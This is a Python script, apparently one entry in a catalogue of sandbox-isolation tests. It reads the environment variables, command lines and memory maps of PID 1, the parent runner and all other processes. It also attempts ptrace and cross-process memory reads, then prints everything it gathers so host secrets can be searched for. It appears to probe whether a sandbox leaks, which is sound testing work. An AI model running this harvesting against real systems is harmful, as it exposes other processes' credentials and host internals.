"""attacks.md #32 - read the sandbox's PID 1 and the runner that forked it: /proc/1/environ and cmdline, the
parent's, every process's in /proc, the mount table; attach to them with ptrace, read their memory with
process_vm_readv. Prints `PROC-PEEK {json}`: every text it could read (to be searched for the host's secrets and
paths) and what each attempt returned.
"""

# uses _kernel.py

import json
import os

me = os.getpid()
seen = {"texts": {}, "ptrace": {}, "vm_read": {}, "pids": sorted(p for p in os.listdir("/proc") if p.isdigit())}
for pid in sorted({1, os.getppid(), *(int(p) for p in seen["pids"])} - {me}):
    for name in ("environ", "cmdline", "status", "maps", "mountinfo"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as handle:
                seen["texts"][f"{pid}/{name}"] = handle.read(200_000).decode(errors="replace")
        except OSError as exc:
            seen["texts"][f"{pid}/{name}"] = type(exc).__name__
    seen["ptrace"][pid] = ptrace_attach(pid)  # noqa: F821 - from _kernel.py
    seen["vm_read"][pid] = read_memory(pid)  # noqa: F821
for name in ("self/mountinfo", "self/environ", "self/cmdline"):
    with open(f"/proc/{name}", "rb") as handle:
        seen["texts"][name] = handle.read(200_000).decode(errors="replace")
print("PROC-PEEK " + json.dumps(seen), flush=True)
